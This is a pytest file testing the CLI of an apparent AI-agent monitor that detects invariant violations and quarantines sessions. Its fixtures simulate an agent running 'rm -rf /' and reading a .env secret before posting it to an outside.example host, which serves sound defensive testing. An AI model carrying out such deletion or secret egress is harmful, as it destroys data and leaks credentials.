"""The command line as people and programs meet it: real processes, exit codes, text and JSON."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from interlock import Client, ClientOptions
from monitor.findings.incident import incident_of
from monitor.transport.kafka import topic_config as kafka_topics

ROOT = Path(__file__).resolve().parents[2]
SESSION = ROOT / "fixtures" / "sessions" / "coding-1.jsonl.gz"
INVARIANTS = ROOT / "fixtures" / "invariants"

BROKEN = """\
version: 1
predicates:
  a: kind == "x" &&
invariants:
  - {id: one, severity: critical, never: a and onse b}
  - {id: one, severity: loud, never: a}
"""
WRONG_EXAMPLE = """\
version: 1
predicates:
  a: kind == "a"
invariants:
  - id: no-a
    severity: warning
    never: a
    examples:
      - name: an a is found
        events: [{kind: b}, {kind: a}]
        violated_at: [0]
"""


def interlock(*arguments: str | Path, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "monitor.cli", *map(str, arguments)]
    return subprocess.run(
        command, cwd=ROOT, input=stdin, capture_output=True, timeout=120, check=False
    )


def started(*arguments: str | Path) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "monitor.cli", *map(str, arguments)]
    return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def wait_for(path: Path, seconds: float = 120) -> None:
    end = time.monotonic() + seconds
    while not path.exists():
        assert time.monotonic() < end, f"{path} did not appear"
        time.sleep(0.02)


def test_check_tells_every_fault_at_once(tmp_path: Path) -> None:
    """All faults of a file come in one run, with their places, and exit code 2."""
    (tmp_path / "broken.yaml").write_text(BROKEN)
    told = interlock("check", tmp_path)
    lines = told.stdout.decode().splitlines()
    assert told.returncode == 2
    places = {line.split(":")[1] for line in lines[:-1]}
    assert {"3", "5", "6"} <= places, lines
    content = json.loads(interlock("check", tmp_path, "--output", "json").stdout)
    assert len(content["faults"]) == len(lines) - 1


def test_test_fails_where_an_example_does(tmp_path: Path) -> None:
    """An example that expects the wrong event fails, with both lists, and exit code 1."""
    (tmp_path / "wrong.yaml").write_text(WRONG_EXAMPLE)
    told = interlock("test", tmp_path)
    assert told.returncode == 1
    assert b"violated at [1], expected at [0]" in told.stdout
    assert interlock("test", INVARIANTS).returncode == 0


def test_a_finished_file_gives_findings_and_exit_code_1() -> None:
    """The same findings come from a file and from standard input, each once."""
    told = interlock("run", "--invariants", INVARIANTS, "--source", SESSION, "--output", "json")
    assert told.returncode == 1, told.stderr.decode()
    from_file = [json.loads(line)["id"] for line in told.stdout.splitlines()]
    text = subprocess.run(["gzip", "-dc", SESSION], capture_output=True, check=True).stdout
    piped = interlock(
        "run", "--invariants", INVARIANTS, "--source", "-", "--output", "json", stdin=text
    )
    assert [json.loads(line)["id"] for line in piped.stdout.splitlines()] == from_file
    assert len(from_file) == len(set(from_file)) > 0


def test_a_live_run_is_stopped_cleanly_and_goes_on_after_a_kill(tmp_path: Path) -> None:
    """SIGKILL loses nothing, SIGHUP ends nothing, SIGTERM ends it; the lock refuses a second."""
    log, state = tmp_path / "log", tmp_path / "state"
    log.mkdir()
    arguments = ("run", "--invariants", INVARIANTS, "--source", f"log:{log}", "--state-dir", state)
    first = started(*arguments, "--http-port", "0")
    wait_for(state / "state.sqlite")
    wait_for(log / "interlock.control")
    second = interlock(*arguments, "--http-port", "0")
    assert second.returncode == 2
    assert str(first.pid) in second.stderr.decode()
    with Client(
        f"log:{log}", ClientOptions(fail="open", before_view="allow"), agent="tester"
    ) as client:
        publish_theft(client, "before")
        first.send_signal(signal.SIGKILL)
        first.communicate(timeout=120)
        publish_theft(client, "while-down")
    third = started(*arguments, "--http-port", "0")
    end = time.monotonic() + 120
    while {f["session"] for f in findings(state)} != {"before", "while-down"}:
        assert time.monotonic() < end, findings(state)
        time.sleep(0.1)
    third.send_signal(signal.SIGHUP)
    third.send_signal(signal.SIGTERM)
    third.communicate(timeout=120)
    assert third.returncode == 0
    found = findings(state)
    assert len({f["id"] for f in found}) == len(found) == 2
    exported = interlock("findings", "export", "--format", "sarif", "--state-dir", state)
    results = json.loads(exported.stdout)["runs"][0]["results"]
    assert [one["fingerprints"]["interlock/v1"] for one in results] == [
        one["id"] for one in reversed(found)
    ]
    shown = interlock("findings", "show", found[0]["id"][:14], "--state-dir", state)
    assert shown.returncode == 0 and b"because of these events" in shown.stdout
    standing = interlock("control", "list", "--source", f"log:{log}", "--output", "json")
    assert any(
        r["target"] == "session:before" and r["state"] == "quarantined"
        for r in json.loads(standing.stdout)
    )
    released = interlock("control", "release", "session:before", "--source", f"log:{log}")
    assert released.returncode == 0, released.stderr.decode()


def test_a_quarantine_is_not_written_behind_a_kill(tmp_path: Path) -> None:
    """It would be all that a compacted topic keeps, and might expire; a release comes first."""

    def control(part: str) -> int:
        return interlock("control", part, "session:s", "--source", f"log:{tmp_path}").returncode

    assert [control(p) for p in ("kill", "quarantine", "release", "quarantine")] == [0, 2, 0, 0]


def test_a_release_of_nobody_is_told(tmp_path: Path) -> None:
    """A mistyped target is "active now", while whoever was meant is stopped as before."""

    def noted(*arguments: str) -> bool:
        told = interlock("control", *arguments, "--source", f"log:{tmp_path}")
        assert told.returncode == 0, told.stderr.decode()
        return b"was not stopped; see `control list`" in told.stderr

    def refused(*arguments: str) -> bool:
        told = interlock("control", *arguments, "--source", f"log:{tmp_path}")
        return told.returncode == 2 and b"was never stopped" in told.stderr

    assert refused("release", "session:s")
    assert not noted("quarantine", "session:s", "--reason", "it loops")
    listed = interlock("control", "list", "--source", f"log:{tmp_path}")
    assert b"it loops" in listed.stdout
    assert refused("release", "session:S")
    assert not noted("release", "session:s")
    assert noted("release", "session:s")
    assert not noted("quarantine", "session:s", "--ttl", "1ms")
    assert noted("release", "session:s"), "its time had passed"


def test_an_incident_names_a_finding_and_a_target(tmp_path: Path) -> None:
    """What an agent was told (`i-...`) finds the finding, and lifts the stop."""
    events = "".join(
        f'{{"kind": "tool.requested", "tool": "bash", "args": {{"command": "rm -rf /"}}, '
        f'"session": "s{number}", "seq": 0, "ts": "2026-01-05T09:00:0{number}Z"}}\n'
        for number in range(3)
    )
    file, state = tmp_path / "events.jsonl", tmp_path / "state"
    file.write_text(events)
    run = interlock("run", "--invariants", "pack:shell", "--source", file, "--state-dir", state)
    assert run.returncode == 1, run.stderr
    told = run.stdout.decode()
    assert re.search(r"critical\s+shell-no-mass-deletion\s+violated\s+3\s+3\n", told), told
    found = interlock("findings", "list", "--state-dir", state, "--limit", "2")
    assert b"2 of 3 finding(s)" in found.stdout and b"`--page 2`" in found.stderr
    rest = interlock("findings", "list", "--state-dir", state, "--limit", "2", "--page", "2")
    assert b"1 of 3 finding(s)" in rest.stdout and b"--page" not in rest.stderr
    id_ = re.search(r"\[(f-[0-9a-f]+)\]", rest.stdout.decode())
    assert id_ is not None
    incident = incident_of(id_[1])
    for verb in (("findings", "show", incident), ("explain", incident)):
        shown = interlock(*verb, "--state-dir", state)
        assert shown.returncode == 0 and id_[1].encode() in shown.stdout, shown.stderr
    only = interlock("findings", "list", "--state-dir", state, "--incident", incident)
    assert b"1 finding(s)" in only.stdout
    assert (
        b"0 finding(s)"
        in interlock("findings", "list", "--state-dir", state, "--since", "1ms").stdout
    )
    assert interlock("explain", "i-none", "--state-dir", state).returncode == 2


def test_control_wait_ends_when_the_monitor_vouches(tmp_path: Path) -> None:
    """It waits for a monitor that starts later, and then for what it judges from then on."""
    log, state = tmp_path / "log", tmp_path / "state"
    log.mkdir()
    wait = ("control", "wait", "--source", f"log:{log}")
    alone = interlock(*wait, "--timeout", "50ms")
    assert alone.returncode == 3
    assert b"there is no heartbeat of a monitor" in alone.stderr
    first = started(*wait, "--output", "json")
    monitor = started(
        "run", "--invariants", INVARIANTS, "--source", f"log:{log}", "--state-dir", state,
        "--no-http-enabled", "--respond-heartbeat", "1s",
    )  # fmt: skip
    told, _ = first.communicate(timeout=120)
    assert first.returncode == 0
    judged_ns = json.loads(told)["judged_to"]
    with Client(f"log:{log}", agent="tester") as client:
        publish_theft(client, "seen")
        assert client.wait_until_judged(120)
    assert {f["session"] for f in findings(state)} == {"seen"}, "stored before it is vouched for"
    again = interlock(*wait, "--output", "json")
    assert json.loads(again.stdout)["judged_to"] > judged_ns
    monitor.kill()
    monitor.communicate(timeout=120)
    gone = interlock(*wait, "--timeout", "50ms")
    assert gone.returncode == 3
    assert b"` covers 20" in gone.stderr


def publish_theft(client: Client, session_id: str) -> None:
    """A secret is read, then something leaves for outside."""
    with client.session(session_id) as session:
        done = {"tool": "read_file", "call": "1", "args": {"path": "/srv/app/.env"}, "result": "x"}
        session.emit("tool.completed", **done)
        outside = {"url": "http://outside.example/drop", "body": "x"}
        session.emit("tool.requested", tool="http.post", call="2", args=outside)
    client.flush(10)


def findings(state: Path) -> list[dict[str, str]]:
    told = interlock("findings", "list", "--state-dir", state, "--output", "json")
    content = json.loads(told.stdout or b"[]")
    return [f for f in content if f["invariant"] == "no-secret-egress"]


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (("--version",), 0),
        ((), 2),
        (("run",), 2),
        (("run", "--source", "log:/nowhere", "--no-such-flag"), 2),
        (("findings", "list", "--state-dir", "/nowhere"), 2),
        (("explain", "nobody"), 2),
        (("control", "wait", "--source", "log:/nowhere"), 2),
        (("control", "wait", "--source", "log:/tmp", "--timeout", "soon"), 2),
        (("control", "kill", "bare-word", "--source", "log:/nowhere"), 2),
        (("schema", "event"), 0),
        (("schema", "invariants"), 0),
        (("completion", "bash"), 0),
        (("explain", "no-secret-egress", "--invariants", str(INVARIANTS)), 0),
    ],
)
def test_exit_codes(arguments: tuple[str, ...], code: int) -> None:
    """0 is fine; what a person can mend in the call is 2, said without a traceback."""
    told = interlock(*arguments)
    assert told.returncode == code, told.stderr.decode()
    assert b"Traceback" not in told.stderr


def test_kafka_init_has_the_partitions_of_its_topics() -> None:
    """The number in the flag's help is the one that the topics are made with."""
    told = interlock("kafka", "init", "--help")
    assert f"else {kafka_topics.PARTITIONS}" in " ".join(told.stdout.decode().split())


def test_the_check_starts_no_heavy_library() -> None:
    """`interlock check` opens neither Kafka nor the store nor the metrics."""
    code = (
        "import sys, monitor.cli.__main__ as m; m.main(['check', sys.argv[1]]);"
        "print(sorted({'kafka', 'prometheus_client'} & set(sys.modules)))"
    )
    told = subprocess.run(
        [sys.executable, "-c", code, str(INVARIANTS)],
        cwd=ROOT,
        capture_output=True,
        env={**os.environ},
        check=True,
    )
    assert told.stdout.decode().splitlines()[-1] == "[]"


STOPPED_WHILE_LOADING = """
import os, signal, sys
from importlib.abc import MetaPathFinder

class Stop(MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == stop_at:
            os.kill(os.getpid(), signal.SIGTERM)

stop_at = sys.argv.pop(1)
from monitor.cli.__main__ import entry_point
sys.meta_path.insert(0, Stop())
entry_point()
"""


@pytest.mark.parametrize(
    "module", ["monitor.cli.run", "monitor.service.assemble", "monitor.service.loop"]
)
def test_a_stop_that_comes_while_it_loads_is_a_clean_one(tmp_path: Path, module: str) -> None:
    """A supervisor that stops what it has just started sees no crash, and nothing is lost."""
    command = [sys.executable, "-c", STOPPED_WHILE_LOADING, module, "run"]
    command += ["--source", f"log:{tmp_path / 'log'}", "--invariants", str(INVARIANTS)]
    command += ["--state-dir", str(tmp_path / "state"), "--no-http-enabled"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr.decode()
    assert b"Traceback" not in done.stderr
